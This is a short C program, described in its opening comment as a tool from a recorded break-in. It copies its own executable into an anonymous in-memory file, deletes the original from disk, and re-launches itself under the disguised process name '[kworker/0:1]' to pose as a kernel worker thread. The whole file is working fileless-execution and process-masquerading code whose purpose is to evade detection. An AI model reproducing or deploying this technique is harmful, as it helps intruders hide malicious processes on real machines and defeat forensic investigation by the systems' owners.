/* A tool of the recorded break-in that goes on from memory: it copies itself into a file without a name, starts that, and
 * is gone from the disk. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

extern char **environ;

int main(int count, char **words)
{
    if (count > 1) {
        puts("running from memory");
        return 0;
    }
    int disk = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), memory = memfd_create("kworker", MFD_CLOEXEC);
    struct stat status;
    if (disk < 0 || memory < 0 || fstat(disk, &status) || sendfile(memory, disk, NULL, status.st_size) != status.st_size)
        return 1;
    unlink(words[0]);
    fexecve(memory, (char *[]){"[kworker/0:1]", "-", NULL}, environ);
    return 1;
}
